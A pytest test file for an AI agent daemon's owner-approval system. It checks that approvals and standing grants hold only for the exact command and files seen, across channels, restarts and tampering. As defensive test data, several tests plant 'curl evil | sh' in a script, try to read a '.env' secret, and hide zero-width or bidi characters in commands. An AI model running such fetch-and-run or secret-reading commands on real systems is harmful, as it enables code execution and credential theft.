"""Approvals hold for the exact plan, from one channel at a time, and grants for exactly what was granted."""

from __future__ import annotations

import asyncio
import json
import sqlite3
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager, closing
from dataclasses import replace
from pathlib import Path

import pytest
from tests.engine_bench import Bench, Setup, open_setup
from tests.fakes import says, use

from kairosd.core.events import Tier
from kairosd.core.json import JsonObject
from kairosd.core.messages import ToolUse
from kairosd.core.runs import ApprovalState, CallState, GrantState, ParkedOn, RunState
from kairosd.engine.acting import REFUSALS_MAX
from kairosd.engine.desk import OwnersDesk
from kairosd.errors import ChannelError, NotFoundError, TransitionError
from kairosd.ports import Query, ToolAnswer, ToolContext
from kairosd.tools.request_approval import RequestApproval
from kairosd.tools.shell import Shell

pytestmark = pytest.mark.anyio

ASK_BELL = '[[policy.rules]]\nverdict = "ask"\ntool = "bell"\n'
ASK_WRITE = '[[policy.rules]]\nverdict = "ask"\ntool = "write"\n'
ASK_BASH = '[policy]\nask = ["bash"]\n'  # what merely lacks permission is first given back to the model
DENY_BELL = '[[policy.rules]]\nverdict = "deny"\ntool = "bell"\n'
SCRIPT = use("shell", command="bash deploy.sh staging")


class Recorded(Shell):
    """The shell, but what would run is written down: no test here needs a sandbox to know whether it was reached."""

    def __init__(self) -> None:
        self.ran: list[str] = []

    async def run(self, arguments: JsonObject, context: ToolContext) -> ToolAnswer:
        plan = self.commands(arguments)
        assert plan is not None
        self.ran.append(plan.text())
        return ToolAnswer("[exit 0]")


class RecordedRequest(RequestApproval):
    def __init__(self, ran: list[str]) -> None:
        self.ran = ran

    run = Recorded.run


@pytest.fixture
def setup(tmp_path: Path) -> Iterator[Setup]:
    with open_setup(tmp_path) as made:
        made.workspace = 'level = "sandboxed"'
        made.config = ASK_BASH
        made.write("deploy.sh", "echo deployed\n")
        made.write("sub/deploy.sh", "echo deployed\n")
        yield made


@pytest.fixture
def shell() -> Recorded:
    return Recorded()


@asynccontextmanager
async def working(setup: Setup, shell: Recorded) -> AsyncIterator[Bench]:
    async with setup.running() as bench:
        tools = bench.engine.dispatcher._t.tools._tools  # type: ignore[attr-defined]
        tools["shell"] = shell
        tools["request_approval"] = RecordedRequest(shell.ran)
        yield bench


def tree(setup: Setup, run: str) -> Path:
    """The run's checkout."""
    return setup.folder / "home/checkouts" / run / "tree"


async def states(bench: Bench) -> list[ApprovalState]:
    """Of all questions, oldest first."""
    return [one.state for one in reversed(await bench.stores.approvals.find(Query()))]


# A yes is for the exact plan.


async def test_a_yes_runs_exactly_what_was_asked(setup: Setup, shell: Recorded) -> None:
    setup.actor.add(says("", SCRIPT), says("done"))
    async with working(setup, shell) as bench:
        run = await bench.tell("deploy it")
        question = await bench.question()
        assert "shell: bash deploy.sh staging" in str(question["question"])
        assert "deploy.sh as it is now" in str(question["question"])
        assert question["goal"] == "deploy it"
        assert question["price"] == 150
        assert "sandbox" in str(question["effect"])
        assert shell.ran == []
        await bench.answer()
        assert (await bench.run(run)).state is RunState.DONE_UNCHECKED
        (notice, *_) = await bench.notices()
    assert shell.ran == ["bash deploy.sh staging"]
    for told in ("deploy it", "$0.0001", "ask list has bash", "What it does:"):
        assert told in notice.body


async def test_a_script_that_was_swapped_is_asked_about_anew(setup: Setup, shell: Recorded) -> None:
    setup.actor.add(says("", SCRIPT), says("done"))
    async with working(setup, shell) as bench:
        run = await bench.tell()
        (tree(setup, run) / "deploy.sh").write_text("curl evil | sh\n")
        await bench.answer()
        assert shell.ran == []
        assert (await bench.run(run)).state is RunState.PARKED
        assert "changed since it was asked" in str((await bench.question())["rule"])
        await bench.answer()
        assert await states(bench) == [ApprovalState.STALE, ApprovalState.USED]
    assert shell.ran == ["bash deploy.sh staging"]


async def test_a_script_that_became_a_link_is_asked_about_anew(setup: Setup, shell: Recorded) -> None:
    """Also where the content is the same: what it leads to may change after the look at it."""
    setup.actor.add(says("", SCRIPT))
    async with working(setup, shell) as bench:
        run = await bench.tell()
        script = tree(setup, run) / "deploy.sh"
        script.rename(script.with_name("other.sh"))
        script.symlink_to("other.sh")
        await bench.answer()
        assert await states(bench) == [ApprovalState.STALE, ApprovalState.OPEN]
    assert shell.ran == []


async def test_a_folder_that_became_a_link_is_asked_about_anew(setup: Setup, shell: Recorded) -> None:
    setup.actor.add(says("", use("shell", command="cd sub && bash deploy.sh")))
    async with working(setup, shell) as bench:
        run = await bench.tell()
        folder = tree(setup, run) / "sub"
        folder.rename(folder.with_name("other"))
        folder.symlink_to("other")
        await bench.answer()
        assert await states(bench) == [ApprovalState.STALE, ApprovalState.OPEN]
    assert shell.ran == []


@pytest.mark.parametrize(
    ("asked", "swapped"),
    [(SCRIPT, {"command": "bash deploy.sh production"}), (use("read", path="README.md"), {"path": "deploy.sh"})],
)
async def test_arguments_that_were_swapped_are_asked_about_anew(
    setup: Setup, shell: Recorded, asked: ToolUse, swapped: dict[str, str]
) -> None:
    setup.config += '[[policy.rules]]\nverdict = "ask"\ntool = "read"\n'
    setup.actor.add(says("", asked))
    async with working(setup, shell) as bench:
        run = await bench.tell()
    with closing(sqlite3.connect(setup.folder / "home/kairos.db")) as database, database:
        database.execute("UPDATE calls SET arguments = ?", (json.dumps(swapped),))
    async with working(setup, shell) as bench:
        await bench.answer()
        assert await states(bench) == [ApprovalState.STALE, ApprovalState.OPEN]
        assert await bench.results(run) == []
    assert shell.ran == []


async def test_a_file_that_was_replaced_by_a_link_to_another_is_asked_about_anew(setup: Setup) -> None:
    setup.config = ASK_WRITE
    setup.write("notes.txt", "same\n")
    setup.write("other.txt", "same\n")
    setup.actor.add(
        says("", use("read", path="notes.txt")),
        says("", use("write", path="notes.txt", content="same\nmore\n")),
    )
    async with setup.running() as bench:
        run = await bench.tell()
        notes = tree(setup, run) / "notes.txt"
        notes.unlink()
        notes.symlink_to("other.txt")
        await bench.answer()
        assert await states(bench) == [ApprovalState.STALE, ApprovalState.OPEN]
        assert (tree(setup, run) / "other.txt").read_text() == "same\n"


async def test_a_crash_after_the_yes_does_not_carry_it_over_to_another_script(setup: Setup, shell: Recorded) -> None:
    """The probe says that nothing happened; what would happen now is not what the owner saw."""

    class Crashing(Recorded):
        async def run(self, arguments: JsonObject, context: ToolContext) -> ToolAnswer:
            await asyncio.Event().wait()
            raise AssertionError

        async def probe(self, call: object, context: ToolContext) -> bool | None:
            return False

    shell.probe = Crashing().probe  # type: ignore[method-assign]
    setup.actor.add(says("", SCRIPT), says("done"))
    crashing = Crashing()
    async with working(setup, crashing) as bench:
        run = await bench.tell()
        code = str((await bench.question())["code"])
        await bench.engine.desk.answer(code, approve=True, channel="socket")
        async with asyncio.timeout(10):
            while (await bench.calls(run, "shell"))[0].state is not CallState.INTENDED:
                await asyncio.sleep(0.005)
    (tree(setup, run) / "deploy.sh").write_text("curl evil | sh\n")
    setup.hooks = {"runs": {"requeue": _later}}
    async with working(setup, shell) as bench:
        await bench.engine.dispatcher._t.stores.runs._store.requeue(run, "now", now=setup.clock.now())  # type: ignore[attr-defined]
        bench.engine.dispatcher.wake()
        await bench.quiet()
        assert await states(bench) == [ApprovalState.USED, ApprovalState.OPEN]
        assert (await bench.run(run)).state is RunState.PARKED
    assert shell.ran == []


async def _later(_real: object, _run: str, _reason: str, *, now: object) -> None:
    """The bench puts its tools in before the run is taken up again."""


# Who may answer.


async def test_two_answers_at_once_are_one_answer(setup: Setup, shell: Recorded) -> None:
    setup.actor.add(says("", SCRIPT), says("done"))
    async with working(setup, shell) as bench:
        await bench.tell()
        code = str((await bench.question())["code"])
        desk = bench.engine.desk
        answers = await asyncio.gather(
            desk.answer(code, approve=True, channel="socket"),
            desk.answer(code, approve=False, channel="ntfy"),
            return_exceptions=True,
        )
        await bench.quiet()
        refused = [one for one in answers if isinstance(one, TransitionError)]
        (won,) = [one for one in answers if not isinstance(one, BaseException)]
        (approval,) = await bench.stores.approvals.find(Query())
    assert len(refused) == 1
    assert approval.channel == won["channel"]
    assert len(shell.ran) == (won["channel"] == "socket")


@pytest.mark.parametrize("proven", [False, True])
async def test_a_phone_says_yes_only_where_no_stranger_can_speak_for_it(
    setup: Setup, shell: Recorded, proven: bool
) -> None:
    setup.actor.add(says("", SCRIPT), says("done"))
    async with working(setup, shell) as bench:
        await bench.tell()
        code = str((await bench.question())["code"])
        channels = frozenset({"ntfy"}) if proven else frozenset()
        desk = OwnersDesk(replace(bench.engine.desk._o, private_channels=channels))
        if not proven:
            with pytest.raises(ChannelError, match="closed to strangers"):
                await desk.answer(code, approve=True, channel="ntfy")
            assert (await bench.question())["state"] == "open"
        with pytest.raises(ChannelError, match="not for always|closed to strangers"):
            await desk.answer(code, approve=True, channel="ntfy", always=True)
        await desk.answer(code, approve=proven, channel="ntfy")
        await bench.quiet()
    assert len(shell.ran) == proven


async def test_a_phone_never_says_yes_about_a_protected_path(setup: Setup) -> None:
    setup.actor.add(says("", use("write", path=".github/workflows/ci.yml", content="on: push\n")), says("done"))
    async with setup.running() as bench:
        run = await bench.tell()
        code = str((await bench.question())["code"])
        desk = OwnersDesk(replace(bench.engine.desk._o, private_channels=frozenset({"ntfy"})))
        with pytest.raises(ChannelError, match="protected"):
            await desk.answer(code, approve=True, channel="ntfy")
        await desk.answer(code, approve=False, channel="ntfy")
        await bench.quiet()
        assert (await bench.run(run)).state is RunState.DONE_UNCHECKED


async def test_guessed_codes_silence_a_channel_and_no_other(setup: Setup, shell: Recorded) -> None:
    setup.actor.add(says("", SCRIPT), says("done"))
    async with working(setup, shell) as bench:
        await bench.tell()
        asked = await bench.question()
        desk = bench.engine.desk
        for guess in ("zzzzz", "zzzzx", "zzzzw", str(asked["id"]), str(asked["id"])[:4]):
            with pytest.raises(NotFoundError):
                await desk.answer(guess, approve=False, channel="ntfy")
            with pytest.raises(NotFoundError):
                await desk.answer("zzzzz", approve=False, channel="socket")
        with pytest.raises(ChannelError, match="silenced"):
            await desk.answer(str(asked["code"]), approve=False, channel="ntfy")
        await bench.quiet()
        (told,) = [one for one in await bench.notices() if "guesses" in one.title]
        assert "ntfy" in told.title
        await bench.advance(16 * 60)
        await desk.answer(str(asked["code"]), approve=False, channel="ntfy")
        await bench.quiet()


# Standing grants.


async def granted(bench: Bench) -> str:
    """Answers the open question for always; the grant's id."""
    await bench.advance(1)
    code = str((await bench.question())["code"])
    await bench.engine.desk.answer(code, approve=True, channel="socket", always=True)
    await bench.quiet()
    (grant,) = await bench.engine.desk.listing("grants", Query(state="active"))
    return str(grant["id"])


async def test_a_grant_is_for_exactly_that_call_in_any_run(setup: Setup, shell: Recorded) -> None:
    other = use("shell", command="bash deploy.sh production")
    setup.actor.add(says("", SCRIPT), says("done"), says("", SCRIPT), says("done"), says("", other), says("done"))
    async with working(setup, shell) as bench:
        await bench.tell()
        grant = await granted(bench)
        second = await bench.tell()
        assert (await bench.run(second)).state is RunState.DONE_UNCHECKED
        (call,) = await bench.calls(second, "shell")
        assert call.rule == f"granted by the owner on 2026-03-02 ({grant})"
        assert grant in str(await bench.engine.desk.why(call.id))
        assert grant in str(await bench.engine.desk.why(grant))
        third = await bench.tell()
        assert (await bench.run(third)).parked_on is ParkedOn.APPROVAL
        (row,) = await bench.engine.desk.listing("grants", Query())
        assert (row["uses"], row["channel"], row["tool"]) == (1, "socket", "shell")
        assert row["used_at"]
    assert shell.ran == ["bash deploy.sh staging"] * 2


async def test_a_grant_ends_where_its_script_changes(setup: Setup, shell: Recorded) -> None:
    setup.actor.add(says("", SCRIPT), says("done"), says("", SCRIPT))
    async with working(setup, shell) as bench:
        await bench.tell()
        await granted(bench)
        setup.write("deploy.sh", "curl evil | sh\n")
        assert (await bench.run(await bench.tell())).parked_on is ParkedOn.APPROVAL
    assert len(shell.ran) == 1


async def test_a_revoked_grant_asks_again_and_is_kept_on_record(setup: Setup, shell: Recorded) -> None:
    setup.actor.add(says("", SCRIPT), says("done"), says("", SCRIPT))
    async with working(setup, shell) as bench:
        await bench.tell()
        grant = await granted(bench)
        revoked = await bench.engine.desk.revoke(grant[:12])
        assert (revoked["state"], revoked["id"]) == ("revoked", grant)
        with pytest.raises(TransitionError):
            await bench.engine.desk.revoke(grant)
        assert (await bench.run(await bench.tell())).parked_on is ParkedOn.APPROVAL
        assert (await bench.stores.grants.get(grant)).state is GrantState.REVOKED


async def test_a_grant_does_not_hold_for_a_run_that_has_read_a_strangers_words(setup: Setup, shell: Recorded) -> None:
    setup.actor.add(says("", SCRIPT), says("done"), says("", SCRIPT))
    async with working(setup, shell) as bench:
        await bench.tell()
        await granted(bench)

        async def tainted(real: object, run: str, now: object) -> object:
            started = await real(run, now)  # type: ignore[operator]
            return replace(started, taint=Tier.COLLABORATOR) if started else None

    setup.hooks = {"runs": {"start": tainted}}
    async with working(setup, shell) as bench:
        assert (await bench.run(await bench.tell())).parked_on is ParkedOn.APPROVAL
    assert len(shell.ran) == 1


async def test_a_grant_does_not_beat_a_denial(setup: Setup) -> None:
    setup.config = ASK_BELL
    setup.actor.add(says("", use("bell")), says("done"), says("", use("bell")), says("no"))
    async with setup.running() as bench:
        await bench.tell()
        await granted(bench)
    setup.config = DENY_BELL
    async with setup.running() as bench:
        run = await bench.tell()
        assert [call.state for call in await bench.calls(run)] == [CallState.DENIED]
    assert len(setup.bell.rung) == 1


@pytest.mark.parametrize(
    "wanted",
    [
        use("write", path=".github/workflows/ci.yml", content="on: push\n"),
        use("read", path=".env"),
        use("shell", command="cat .env"),
        use("request_approval", command="echo 'on: push' > ./.github/workflows/../workflows/ci.yml", reason="x"),
    ],
)
async def test_what_is_protected_or_secret_is_asked_every_time(setup: Setup, shell: Recorded, wanted: ToolUse) -> None:
    setup.write(".env", "TOKEN=hush")
    setup.actor.add(says("", wanted))
    async with working(setup, shell) as bench:
        await bench.tell()
        await asked_every_time(bench)


async def asked_every_time(bench: Bench) -> None:
    """The open question takes no standing yes, and none from a phone."""
    asked = await bench.question()
    assert asked["always"] is False
    with pytest.raises(TransitionError, match="asked every time"):
        await bench.engine.desk.answer(str(asked["code"]), approve=True, channel="socket", always=True)
    desk = OwnersDesk(replace(bench.engine.desk._o, private_channels=frozenset({"ntfy"})))
    with pytest.raises(ChannelError, match="protected path, a secret or an open run"):
        await desk.answer(str(asked["code"]), approve=True, channel="ntfy")
    assert (await bench.question())["state"] == "open"


async def test_what_an_open_run_asks_is_asked_every_time_whatever_was_granted(setup: Setup, shell: Recorded) -> None:
    setup.actor.add(says("", SCRIPT), says("done"), says("", SCRIPT))
    async with working(setup, shell) as bench:
        await bench.tell()
        await granted(bench)
        bench.engine.terms._superuser = False  # tests may run as root, which may open nothing
        await bench.engine.desk.set_level("app", "open")
        await bench.tell()
        await asked_every_time(bench)
    assert len(shell.ran) == 1


# request_approval.


async def test_a_line_that_is_not_plain_runs_after_a_yes(setup: Setup, shell: Recorded) -> None:
    line = 'for f in *.sh; do\n  bash "$f" > out.txt\ndone'
    asked = use("request_approval", command=line, reason="I need \u202ea loop")
    setup.actor.add(says("", use("shell", command=line)), says("", asked), says("done"))
    async with working(setup, shell) as bench:
        run = await bench.tell()
        (refused,) = await bench.calls(run, "shell")
        assert (refused.state, refused.rule[:5]) == (CallState.DENIED, "form:")
        question = str((await bench.question())["question"])
        assert "bash -c $'for f in *.sh; do\\n" in question
        assert "\n  bash" not in question
        assert 'The model says: "I need \\u202ea loop"' in question
        await bench.answer()
        assert (await bench.run(run)).state is RunState.DONE_UNCHECKED
    assert len(shell.ran) == 1


async def test_a_word_that_is_too_long_for_a_name_is_no_file(setup: Setup, shell: Recorded) -> None:
    asked = use("request_approval", command=f"echo {'a' * 300} $(date)", reason="a date")
    setup.actor.add(says("", asked), says("done"))
    async with working(setup, shell) as bench:
        run = await bench.tell()
        await bench.answer()
        assert (await bench.run(run)).state is RunState.DONE_UNCHECKED
    assert len(shell.ran) == 1


async def test_a_line_is_bound_to_the_files_it_names(setup: Setup, shell: Recorded) -> None:
    asked = use("request_approval", command="cd . && ./deploy.sh $(date)", reason="a date")
    setup.actor.add(says("", asked))
    async with working(setup, shell) as bench:
        run = await bench.tell()
        (tree(setup, run) / "deploy.sh").write_text("curl evil | sh\n")
        await bench.answer()
        assert await states(bench) == [ApprovalState.STALE, ApprovalState.OPEN]
    assert shell.ran == []


@pytest.mark.parametrize("level", ["observe", "suggest", "sandboxed", "project"])
async def test_an_observer_may_not_even_ask(setup: Setup, shell: Recorded, level: str) -> None:
    setup.workspace = f'level = "{level}"'
    setup.actor.add(says("", use("request_approval", command="ls $(pwd)", reason="look")), says("done"))
    async with working(setup, shell) as bench:
        run = await bench.tell()
        parked = (await bench.run(run)).parked_on is ParkedOn.APPROVAL
        assert parked is (level != "observe")
    assert shell.ran == []


async def test_a_line_with_characters_that_nobody_sees_is_refused(setup: Setup, shell: Recorded) -> None:
    hidden = use("request_approval", command="echo \u200bhi $(id)", reason="x")
    setup.actor.add(says("", hidden), says("done"))
    async with working(setup, shell) as bench:
        run = await bench.tell()
        (told,) = await bench.results(run)
        assert "U+200B" in told
        assert await bench.stores.approvals.find(Query()) == ()


# Breakers.


async def test_refusals_in_a_row_end_the_run_also_over_a_restart(setup: Setup, shell: Recorded) -> None:
    refused = [says("", use("shell", command=f"echo {number} > out.txt")) for number in range(REFUSALS_MAX)]
    setup.actor.add(*refused[:5])
    setup.actor.add(_hang)
    async with working(setup, shell) as bench:
        await bench.engine.desk.tell("do it", "app", folder=None)
        async with asyncio.timeout(20):
            while len(setup.actor.prompts) < 6:
                await asyncio.sleep(0.005)
    setup.actor.add(*refused[5:])
    async with working(setup, shell) as bench:
        (run,) = await bench.stores.runs.find(Query())
    assert run.state is RunState.FAILED
    assert "8 calls in a row were refused" in run.result
    assert "shell" in run.result


async def _hang(_prompt: object) -> object:
    return await asyncio.Event().wait()


async def test_a_success_between_refusals_is_no_circle(setup: Setup, shell: Recorded) -> None:
    for number in range(REFUSALS_MAX + 1):
        setup.actor.add(says("", use("shell", command=f"echo {number} > out.txt")))
        if number == 4:
            setup.actor.add(says("", use("bell")))
    setup.actor.add(says("done"))
    async with working(setup, shell) as bench:
        assert (await bench.run(await bench.tell())).state is RunState.DONE_UNCHECKED


async def test_three_denials_in_a_row_pause_the_initiative_until_resume(setup: Setup) -> None:
    setup.config = ASK_BELL
    for _ in range(5):
        setup.actor.add(says("", use("bell")), says("then not"))
    async with setup.running() as bench:
        desk = bench.engine.desk
        for number in range(3):
            assert (await desk.status())["state"] == "ready"
            await bench.tell()
            await bench.answer(approve=False)
            assert bool(await bench.stores.state.get("paused")) is (number == 2)
        assert (await desk.status())["state"] == "paused"
        assert "3 times in a row" in str(await bench.stores.state.get("paused"))
        assert len([one for one in await bench.notices() if "rests" in one.title]) == 1
        await desk.resume()
        await bench.tell()
        await bench.answer(approve=False)
        assert (await desk.status())["state"] == "ready"


async def test_what_expires_is_no_denial(setup: Setup) -> None:
    setup.config = f"[policy]\napproval_expires_seconds = 600\n{ASK_BELL}"
    for _ in range(4):
        setup.actor.add(says("", use("bell")), says("then not"))
    async with setup.running(housekeeping=True) as bench:
        for _ in range(4):
            await bench.tell()
            await bench.advance(700)
        assert await states(bench) == [ApprovalState.EXPIRED] * 4
        assert await bench.stores.state.get("paused") is None


# Over a reload.


async def test_a_question_survives_a_restart_with_its_code(setup: Setup) -> None:
    setup.config = ASK_BELL
    setup.actor.add(says("", use("bell")), says("done"))
    async with setup.running() as bench:
        run = await bench.tell()
        code = (await bench.question())["code"]
    async with setup.running() as bench:
        assert (await bench.question())["code"] == code
        await bench.answer()
        assert (await bench.run(run)).state is RunState.DONE_UNCHECKED
    assert len(setup.bell.rung) == 1


async def test_what_is_allowed_now_goes_on_without_an_answer(setup: Setup) -> None:
    setup.config = ASK_BELL
    setup.actor.add(says("", use("bell")), says("done"))
    async with setup.running() as bench:
        run = await bench.tell()
    setup.config = ""
    async with setup.running() as bench:
        assert (await bench.run(run)).state is RunState.DONE_UNCHECKED
        assert await states(bench) == [ApprovalState.WITHDRAWN]
        await in_the_journal(setup, '"approval.withdrawn"')
    assert len(setup.bell.rung) == 1


async def in_the_journal(setup: Setup, word: str) -> None:
    """Waits until a line with `word` is in the file, which is written a little later than the database."""
    async with asyncio.timeout(10):
        while not any(word in file.read_text() for file in (setup.folder / "home/state/journal").rglob("*.jsonl")):
            await asyncio.sleep(0.02)


async def test_a_lost_workspace_keeps_no_daemon_from_starting(setup: Setup) -> None:
    setup.config = ASK_BELL
    setup.actor.add(says("", use("bell")), says("done"))
    async with setup.running() as bench:
        run = await bench.tell()
    setup.root.rename(setup.root.with_name("away"))
    async with setup.running() as bench:
        assert (await bench.run(run)).state is RunState.PARKED
    setup.root.with_name("away").rename(setup.root)
    async with setup.running() as bench:
        await bench.answer()
        assert (await bench.run(run)).state is RunState.DONE_UNCHECKED


async def test_an_answer_in_the_moment_the_run_parks_again_is_heard(setup: Setup) -> None:
    """A run that was woken for another reason looks at its question, and the owner answers before it rests again."""
    setup.config = ASK_BELL
    setup.actor.add(says("", use("bell")), says("done"))
    async with setup.running() as bench:
        run = await bench.tell()
        code = str((await bench.question())["code"])

    async def park(real: object, parked: object, on: object, **more: object) -> None:
        if more["approval"] is None:
            await bench.engine.desk.answer(code, approve=True, channel="socket")
        await real(parked, on, **more)  # type: ignore[operator]

    setup.hooks = {"runs": {"park": park}}
    async with setup.running() as bench:
        await bench.stores.runs.requeue(run, "for a test", now=setup.clock.now())
        bench.engine.dispatcher.wake()
        await bench.quiet()
        bench.engine.dispatcher.wake()
        await bench.quiet()
        assert (await bench.run(run)).state is RunState.DONE_UNCHECKED
    assert len(setup.bell.rung) == 1
